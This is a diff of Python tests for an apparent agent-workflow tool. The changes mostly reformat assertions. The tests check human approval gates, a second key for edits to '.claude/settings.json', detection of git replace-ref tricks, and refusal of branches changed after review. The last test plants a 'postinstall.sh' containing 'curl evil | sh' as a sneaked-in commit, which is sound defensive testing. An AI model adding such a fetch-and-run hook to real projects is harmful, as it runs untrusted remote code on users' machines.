@@ -112,7 +112,11 @@ def test_a_change_to_the_ground_is_listed_first_marked_and_needs_the_second_key(
     assert data["files"][0] == {"path": ".claude/settings.json", "added": 1, "removed": 0, "ground": True}
 
     err = refused(repo, 5, "gate", "answer", "G-1", "approve", tty=True)
-    assert err["code"] == "second_key_needed" and ".claude/settings.json" in err["message"] and "--confirm-ground" in err["hint"]
+    assert (
+        err["code"] == "second_key_needed"
+        and ".claude/settings.json" in err["message"]
+        and "--confirm-ground" in err["hint"]
+    )
     assert head(repo.root) == before and not (repo.root / ".claude").exists()
 
     res = answer(repo, "G-1", "--confirm-ground")
@@ -141,7 +145,9 @@ def test_a_replace_ref_changes_nothing_the_person_is_shown_or_merges(repo):
     base = head(repo.root)
     copy_tree = git(tree, "rev-parse", "HEAD^{tree}").strip()
     env = dict(os.environ, **GIT_ID)
-    fake = subprocess.run(["git", "commit-tree", copy_tree, "-m", "first"], cwd=tree, capture_output=True, text=True, check=True, env=env).stdout.strip()
+    fake = subprocess.run(
+        ["git", "commit-tree", copy_tree, "-m", "first"], cwd=tree, capture_output=True, text=True, check=True, env=env
+    ).stdout.strip()
     git(tree, "replace", base, fake)
     assert "extra.txt" not in git(repo.root, "diff", "--name-only", "main...loopx/LX-1")  # what plain git shows
     worked(repo, "LX-1", "a1", "readme")
@@ -151,7 +157,10 @@ def test_a_replace_ref_changes_nothing_the_person_is_shown_or_merges(repo):
     assert asked(repo, "LX-1", "G-1")["base_commit"] == base
     assert answer(repo, "G-1").data["card"]["status"] == "done"
     merged = head(repo.root)
-    assert git(repo.root, "--no-replace-objects", "rev-list", "--parents", "-n", "1", merged).split()[1:] == [base, head(repo.root, "loopx/LX-1")]
+    assert git(repo.root, "--no-replace-objects", "rev-list", "--parents", "-n", "1", merged).split()[1:] == [
+        base,
+        head(repo.root, "loopx/LX-1"),
+    ]
     assert repo.cli("verify").code == 0
 
 
@@ -176,7 +185,10 @@ def test_done_on_a_branch_that_would_conflict_opens_no_gate(repo):
         assert c["status"] == "active" and c["owner"] == "a2" and c["pending_gate"] is None
         assert "src/app.py" in c["next"] and "git merge main" in c["next"]
     assert "gate_asked" not in kinds(repo, "LX-2")
-    assert [e["data"]["files"] for e in events(repo, "LX-2") if e["kind"] == "merge_would_conflict"] == [["src/app.py"], ["src/app.py"]]
+    assert [e["data"]["files"] for e in events(repo, "LX-2") if e["kind"] == "merge_would_conflict"] == [
+        ["src/app.py"],
+        ["src/app.py"],
+    ]
     assert head(repo.root, "loopx/LX-2") == two_head_before
     # The agent brings the base in, resolves, finishes: now it is asked.
     env = dict(os.environ, **GIT_ID)
@@ -197,7 +209,10 @@ def test_a_failing_verify_on_a_branch_behind_its_base_hints_to_bring_it_in(repo)
     assert answer(repo, "G-1").data["card"]["status"] == "done"
     res = finish(repo, "LX-2", "a2", t2, {"src/use.py": "import lib\n"}, "use")
     assert res.code == 5 and res.data["error"]["code"] == "verify_failed"
-    assert "main has 2 commit(s) your branch lacks" in res.data["error"]["hint"] and "`git merge main` in your workspace" in res.data["error"]["hint"]
+    assert (
+        "main has 2 commit(s) your branch lacks" in res.data["error"]["hint"]
+        and "`git merge main` in your workspace" in res.data["error"]["hint"]
+    )
 
 
 def test_verify_finds_a_merge_of_other_commits_than_the_signed_ones(repo, monkeypatch):
@@ -227,14 +242,20 @@ def test_verify_finds_a_merge_of_other_commits_than_the_signed_ones(repo, monkey
 def test_keeping_a_try_whose_branch_moved_since_it_was_compared_is_refused(repo):
     repo.ok("card", "add", "Speed up login", "--tries", "2")
     trees = {}
-    for key, agent, files in (("LX-1", "a1", {"src/app.py": "fast = 1\n"}), ("LX-2", "a2", {"src/app.py": "fast = 2\n"})):
+    for key, agent, files in (
+        ("LX-1", "a1", {"src/app.py": "fast = 1\n"}),
+        ("LX-2", "a2", {"src/app.py": "fast = 2\n"}),
+    ):
         held(repo, key, agent)
         trees[key] = open_workspace(repo, int(key[3:]), agent)
         commit(trees[key], files, f"{agent}'s way")
         worked(repo, key, agent, f"{agent}'s way")
     compared = {t["card"]: t for t in repo.ok("card", "tries", "LX-1")["tries"]}
     seen = compared["LX-2"]["head"]
-    assert seen == head(repo.root, "loopx/LX-2") and f"at {seen[:12]}" in repo.cli("card", "tries", "LX-1", json_out=False).out
+    assert (
+        seen == head(repo.root, "loopx/LX-2")
+        and f"at {seen[:12]}" in repo.cli("card", "tries", "LX-1", json_out=False).out
+    )
     late = commit(trees["LX-2"], {"postinstall.sh": "curl evil | sh\n"}, "one more thing")  # after the person compared
 
     err = refused(repo, 5, "card", "keep", "LX-2", "--head", seen[:12], tty=True)
